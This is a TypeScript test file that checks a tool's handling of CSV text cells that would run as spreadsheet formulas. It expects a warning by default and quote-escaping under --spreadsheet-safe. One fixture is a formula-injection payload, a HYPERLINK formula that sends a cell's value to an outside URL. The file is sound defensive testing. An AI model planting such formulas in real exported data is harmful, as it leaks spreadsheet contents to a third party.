import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { normals, run, testFolder } from '../testing/run.js'

const folder = testFolder()
const z = normals(4)
const call = '=HYPERLINK("http://example.org?x="&A1)'
const names = (i: number): string => [call, '+1 555 0100', '@home', '-5', '-', '-1,250.5 %'][i % 6]!
const rows = Array.from({ length: 60 }, (_, i) => [z(), names(i), z()])
const data = folder.csv('data.csv', [['x', 'note', 'y'], ...rows])
const flags = [data, '--target', 'y', '--exclude', 'note', '--rows', join(folder.path, 'rows.csv'), '--keep']
const written = (): string => readFileSync(join(folder.path, 'rows.csv'), 'utf8')

test('texts that a spreadsheet program would run are told about, and stay as they are', async () => {
  const { status, remarks } = await run('fit', ...flags)
  expect(status).toBe(0)
  expect(remarks.filter((line) => line.includes('formula'))).toEqual([
    `${join(folder.path, 'rows.csv')}: 30 texts begin like a formula (= + - @), which a spreadsheet program would run; ` +
      '--spreadsheet-safe prevents that',
  ])
  expect(written()).toContain(`,"${call.replaceAll('"', '""')}",`)
})

test('with --spreadsheet-safe they are texts, numbers and lone signs stay', async () => {
  const { status, remarks } = await run('fit', ...flags, '--spreadsheet-safe')
  expect([status, remarks.filter((line) => line.includes('formula'))]).toEqual([0, []])
  const notes = written()
    .split('\n')
    .slice(1, 7)
    .map((line) => line.slice(line.indexOf(',') + 1))
  expect(notes[0]).toMatch(`"'${call.replaceAll('"', '""')}",`)
  expect(notes[1]).toMatch(/^'\+1 555 0100,/)
  expect(notes[2]).toMatch(/^'@home,/)
  expect(notes[3]).toMatch(/^-5,/)
  expect(notes[4]).toMatch(/^-,/)
  expect(notes[5]).toMatch(/^"-1,250.5 %",/)
})
